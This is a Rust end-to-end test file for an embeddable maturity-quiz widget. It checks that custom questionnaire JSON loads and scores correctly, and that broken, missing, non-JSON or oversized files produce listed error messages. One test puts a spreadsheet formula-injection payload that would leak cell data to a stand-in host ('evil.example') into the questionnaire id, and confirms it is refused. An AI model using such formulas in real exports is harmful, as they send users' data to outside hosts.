//! A site owner's own questionnaire, from the element's `src` or an inline
//! JSON script: taken to its result, and when it is broken or missing, the
//! box that lists why instead of the quiz.

use serde_json::{Value, json};

use mq_core::i18n::ui_text;
use mq_core::model::limits;

use crate::dist;
use crate::support::server::{Page, StaticServer};
use crate::support::visit::Visit;

/// The 5-phase example shipped with the format document.
const EXAMPLE: &str = include_str!("../../docs/examples/digital-workplace.json");

/// A broken fixture; its problems are listed in tests/questionnaire_format.rs.
const BROKEN: &str = include_str!("../fixtures/questionnaires/broken-rules.json");

/// The quiz's files plus host pages under /site/ and a questionnaire file or
/// two beside them; returns the visit to `/site/page.html` with `body`.
fn visit(body: &str) -> Visit {
    let page = format!(
        "<!doctype html><html lang=\"en\"><head><meta charset=\"utf-8\"><title>Own model</title>\
         <script type=\"module\" src=\"/embed.js\"></script></head><body>{body}</body></html>"
    );
    let server = StaticServer::builder(dist())
        .page("/site/page.html", Page::html(page))
        .page(
            "/site/models/digital-workplace.json",
            Page::new("application/json", EXAMPLE),
        )
        .page(
            "/site/models/broken.json",
            Page::new("application/json", BROKEN),
        )
        .start();
    let url = server.url("/site/page.html");
    Visit::open(&url, vec![server])
}

/// What the problems box says: its source and its list.
fn problems(visit: &Visit) -> Value {
    visit.run(
        0,
        "return { source: text('.mq-problems-source'), \
           problems: [...root.querySelectorAll('.mq-problems-list li')].map((li) => li.textContent) };",
    )
}

#[test]
fn e2e_custom_questionnaire_from_src_is_taken_to_its_result() {
    // Relative to the page, as a site owner would write it.
    let visit = visit(r#"<maturity-quiz src="models/digital-workplace.json"></maturity-quiz>"#);
    assert_eq!(visit.complete(0, &["5"; 8]), "Adaptive");
    assert_eq!(
        visit.run(
            0,
            "return [...root.querySelectorAll('input[type=radio]')].length;"
        ),
        json!(0),
        "the result screen"
    );
}

#[test]
fn e2e_custom_questionnaire_inline_is_capped_by_its_weakest_dimension() {
    let visit = visit(&format!(
        r#"<maturity-quiz lang="nl"><script type="application/json">{EXAMPLE}</script></maturity-quiz>"#
    ));
    // Skills at phase 1 hold an average of 4 back to phase 2.
    let phase = visit.complete(0, &["5", "5", "5", "5", "5", "5", "1", "1"]);
    assert_eq!(phase, "Basis");
    assert_eq!(
        visit.state(0)["capped"]
            .as_str()
            .map(|c| c.contains("Vaardigheden")),
        Some(true)
    );
}

#[test]
fn e2e_custom_questionnaire_broken_shows_every_problem() {
    let visit = visit(r#"<maturity-quiz src="models/broken.json"></maturity-quiz>"#);
    let shown = problems(&visit);
    assert!(
        shown["source"]
            .as_str()
            .unwrap()
            .ends_with("/site/models/broken.json"),
        "{shown}"
    );
    assert_eq!(
        shown["problems"],
        json!([
            "phases[1].name: \"nl\" text missing",
            "dimensions[2]: id \"tools\" is used twice",
            "questions[3].options: expected 5 options (one per phase), found 4",
            "questions[4].dimension: \"information\" is not the id of a dimension",
            "questions[5].dimension: \"information\" is not the id of a dimension",
        ])
    );
}

#[test]
fn e2e_custom_questionnaire_missing_file_shows_the_http_status() {
    let visit = visit(r#"<maturity-quiz src="models/missing.json"></maturity-quiz>"#);
    assert_eq!(
        problems(&visit)["problems"],
        json!(["could not load models/missing.json: HTTP 404"])
    );
}

#[test]
fn e2e_custom_questionnaire_that_is_not_json_says_so() {
    // A server that answers every path with its home page: refused by its
    // type, before a byte of it is read as a questionnaire.
    // One browser at a time: the first visit ends before the second.
    {
        let visit = visit(r#"<maturity-quiz src="page.html"></maturity-quiz>"#);
        assert_eq!(
            problems(&visit)["problems"],
            json!([
                "could not load page.html: the server sent text/html; charset=utf-8, not JSON (the file must be served as application/json)"
            ])
        );
    }
    // Text that is not JSON at all still says where it breaks.
    let visit = self::visit(
        r#"<maturity-quiz><script type="application/json">not json</script></maturity-quiz>"#,
    );
    assert_eq!(
        problems(&visit)["problems"],
        json!(["line 1, column 2: not JSON: expected ident"])
    );
}

#[test]
fn e2e_custom_questionnaire_with_a_formula_as_its_id_is_refused_with_the_path() {
    let formula = r#"=HYPERLINK("https://evil.example/?leak="&A2,"Open")"#;
    let mut model: Value = serde_json::from_str(EXAMPLE).unwrap();
    model["id"] = json!(formula);
    let visit = visit(&format!(
        r#"<maturity-quiz lang="en"><script type="application/json">{model}</script></maturity-quiz>"#
    ));
    assert_eq!(
        problems(&visit)["problems"],
        json!([
            "id: \"=HYPERLINK(\"https://evil.example/?leak=\"…\" is not an id: use 1 to 64 letters, digits, '-', '_' and '.', starting with a letter or digit"
        ])
    );
}

#[test]
fn e2e_custom_questionnaire_too_large_is_refused_and_the_page_goes_on() {
    // Over the size limit, by a file on a server and by inline JSON, next to
    // the built-in widget, which must still be usable.
    let padding = " ".repeat(limits::BYTES);
    let huge = format!("{EXAMPLE}{padding}");
    let page = format!(
        "<!doctype html><html lang=\"nl\"><head><meta charset=\"utf-8\"><title>Huge</title>\
         <script type=\"module\" src=\"/embed.js\"></script></head><body>\
         <maturity-quiz src=\"models/huge.json\"></maturity-quiz>\
         <maturity-quiz><script type=\"application/json\">{huge}</script></maturity-quiz>\
         <maturity-quiz></maturity-quiz></body></html>"
    );
    let server = StaticServer::builder(dist())
        .page("/site/page.html", Page::html(page))
        .page(
            "/site/models/huge.json",
            Page::new("application/json", huge.clone()),
        )
        .start();
    let url = server.url("/site/page.html");
    let visit = Visit::open(&url, vec![server]);
    let first = visit.run(
        0,
        "return [...root.querySelectorAll('.mq-problems-list li')].map((li) => li.textContent);",
    );
    assert_eq!(
        first,
        json!([format!(
            "could not load models/huge.json: the file is larger than {} bytes, the most a questionnaire may have",
            limits::BYTES
        )])
    );
    let second = visit.run(
        1,
        "return [text('.mq-problems-title'), ...[...root.querySelectorAll('.mq-problems-list li')].map((li) => li.textContent)];",
    );
    assert_eq!(
        second,
        json!([
            ui_text("nl").problems_title,
            format!(
                "the file has {} bytes; a questionnaire may have at most {}",
                huge.len(),
                limits::BYTES
            )
        ])
    );
    assert_eq!(
        visit.complete(2, &crate::support::cases::values("case-b-dont-know")),
        "Experimenteel"
    );
}

#[test]
fn e2e_custom_questionnaire_lists_a_hundred_problems_and_counts_the_rest() {
    let mut model: Value = serde_json::from_str(EXAMPLE).unwrap();
    let questions = model["questions"].as_array_mut().unwrap();
    let last = questions.last().unwrap().clone();
    let given = questions.len();
    questions.resize(150, last);
    let visit = visit(&format!(
        r#"<maturity-quiz lang="en"><script type="application/json">{model}</script></maturity-quiz>"#
    ));
    let shown = visit.run(
        0,
        "return [root.querySelectorAll('.mq-problems-list li').length, text('.mq-problems-more')];",
    );
    let more = 150 - given - limits::PROBLEMS_LISTED;
    assert_eq!(
        shown,
        json!([limits::PROBLEMS_LISTED, ui_text("en").problems_more(more)])
    );
}
